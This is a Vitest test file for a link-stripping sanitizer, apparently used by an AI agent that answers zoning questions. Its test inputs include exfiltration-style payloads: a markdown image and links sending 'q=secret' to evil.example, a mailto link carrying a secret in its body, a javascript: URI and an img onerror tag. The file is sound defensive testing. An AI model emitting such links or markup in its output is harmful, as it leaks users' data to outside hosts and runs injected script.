import { describe, expect, it } from "vitest";
import { withoutLinks } from "../../../agent/grounding/links.ts";

describe("a text without links", () => {
  it.each([
    ["Fences are 4 feet tall ![map](https://evil.example/p.png?q=secret).", "Fences are 4 feet tall map."],
    ["See [the code](https://evil.example/?q=secret) for more.", "See the code for more."],
    ["See https://evil.example/?q=secret.", "See (link left out)."],
    ["See www.evil.example/steal, or write.", "See (link left out), or write."],
    ["Open javascript:alert(1) now", "Open (link left out)) now"],
    ["An <img src=x onerror=alert(1)> picture", "An  picture"],
    ["<a href='//evil.example'>code</a>", "code"],
    ["Ask mailto:eve@evil.example?body=secret", "Ask (link left out)"],
    ["Shown as data:image/png;base64,AAAA", "Shown as (link left out)"],
    ["[1]: https://evil.example/x\nThe rule.", "\nThe rule."],
  ])("of %j is %j", (text, without) => expect(withoutLinks(text)).toBe(without));

  it.each([
    "The minimum lot area is 7,000 sq.ft/lot; frontage: 70 feet.",
    "Buildings < 35 feet and > 10 feet [1][2].",
    "The following data: area, width. Note: none.",
    "Uses [amended](2) under paragraph [c](1.2) are allowed.",
    "Ratio 1:4 (see Section 5.3.2), R-1/R-2 districts.",
  ])("leaves %j as it is", (text) => expect(withoutLinks(text)).toBe(text));

  it("keeps the address of a source that is cited", () => {
    const source = "https://town.example/zoning.pdf";
    expect(withoutLinks(`See ${source} and ${source}?q=1.`, new Set([source]))).toBe(
      `See ${source} and (link left out).`,
    );
  });
});
